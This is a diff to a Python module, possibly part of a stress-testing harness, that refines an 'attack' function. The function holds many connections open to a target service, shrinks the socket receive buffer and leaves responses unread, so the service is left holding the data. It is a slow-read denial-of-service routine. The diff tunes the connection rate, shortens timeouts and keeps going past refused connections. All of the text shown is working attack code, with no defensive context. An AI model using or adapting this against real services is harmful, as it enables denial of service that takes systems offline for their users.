@@ -5,7 +5,7 @@ from __future__ import annotations
 import select
 import socket
 import time
-from typing import Set
+from typing import Optional, Set
 
 from outcome import Outcome
 from service import Target
@@ -22,8 +22,12 @@ def attack(target: Target, source: str, seconds: float) -> Outcome:
     asked = 0
     end = time.monotonic() + seconds
     while time.monotonic() < end:
-        for _ in range(min(20, CONNECTIONS - len(held))):
-            held.add(ask(target, source, request))
+        # Few a second once all have asked: what is measured is what is held, and not what it costs to answer.
+        for _ in range(min(20 if asked < CONNECTIONS else 2, CONNECTIONS - len(held))):
+            connection = ask(target, source, request)
+            if connection is None:
+                break
+            held.add(connection)
             asked += 1
         for connection in select.select(list(held), [], [], 0.05)[0]:
             # Small answers are refusals, and of large ones what the kernel keeps is a little: so much is looked at, and
@@ -41,13 +45,18 @@ def attack(target: Target, source: str, seconds: float) -> Outcome:
     return Outcome(f"{asked:,} answers asked for")
 
 
-def ask(target: Target, source: str, request: bytes) -> socket.socket:
+def ask(target: Target, source: str, request: bytes) -> Optional[socket.socket]:
+    """None where the service takes no more connections for now."""
     connection = socket.socket()
     # What is not read is kept by the service, and not by the kernel.
     connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-    connection.settimeout(5)
+    connection.settimeout(1)
     connection.bind((source, 0))
-    connection.connect(target.rest)
-    connection.sendall(request)
+    try:
+        connection.connect(target.rest)
+        connection.sendall(request)
+    except OSError:
+        connection.close()
+        return None
     connection.setblocking(False)
     return connection
